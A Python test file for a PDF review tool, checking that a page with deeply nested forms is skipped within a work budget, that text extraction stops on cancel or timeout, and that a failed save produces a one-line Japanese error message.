def test_work_budget_empties_only_the_hostile_page_and_says_so(tmp_path: Path) -> None:
    from reviewer.document import Packet, page_work
    from reviewer.limits import MAX_PAGE_WORK_BYTES
    from reviewer.safety import page_text_status
    from reviewer.structure.detect import detect_outline

    path = tmp_path / "bomb.pdf"
    path.write_bytes(nested_forms_pdf(40))
    original = path.read_bytes()
    with Packet.open(path) as packet:
        assert list(packet.skipped_pages) == [1]
        assert "複雑すぎます" in packet.text_notice() and "bomb.pdf" in packet.text_notice()
        assert "Readable page" in packet.page_text(0) and packet.page_text(1) == "" and packet.page_lines(1) == []
        assert page_text_status(packet.doc[1]) != "text"
        assert detect_outline(packet).pages == 2
    assert path.read_bytes() == original  # only the in-memory copy changed
    # The estimate itself: 12 levels of doubling stay under the budget, the work doubles per level.
    small = tmp_path / "small.pdf"
    small.write_bytes(nested_forms_pdf(12))
    with Packet.open(small) as packet:
        assert packet.skipped_pages == {} and packet.text_notice() == ""
        work = page_work(packet.doc, 1)
        assert 2 ** 12 * 30 < work < MAX_PAGE_WORK_BYTES
        assert "x" in packet.page_text(1)


def test_text_extraction_stops_on_cancel_and_after_its_time_budget(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from reviewer.document import Packet, TextCancelled

    path = tmp_path / "two.pdf"
    path.write_bytes(nested_forms_pdf(2))
    with Packet.open(path) as packet:
        monkeypatch.setattr("reviewer.document.PACKET_TEXT_SECONDS", 0.0)
        assert "Readable" in packet.page_text(0)  # the first read starts the clock
        assert packet.page_lines(1) == [] and "時間の上限" in packet.skipped_pages[1]
        packet.cancel_text()
        with pytest.raises(TextCancelled) as caught:
            packet.page_text(0)
        assert caught.value.message_ja == "文字の読み取りを中止しました"


def test_a_failed_pdf_write_inside_mupdf_is_a_one_line_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old = tmp_path / "sheet.pdf"
    old.write_bytes(b"old version")

    def failing_save(self: pymupdf.Document, filename: str, *args: object, **kwargs: object) -> None:
        raise pymupdf.mupdf.FzErrorSystem(f"cannot write file '{filename}': No space left on device")

    monkeypatch.setattr(pymupdf.Document, "save", failing_save)
    with pytest.raises(ReviewerError) as caught:
        write_pdf(hostile_rows(), old)
    assert caught.value.message_ja == "書き出せません: sheet.pdf（No space left on device）"
    assert old.read_bytes() == b"old version" and [p.name for p in tmp_path.iterdir()] == ["sheet.pdf"]
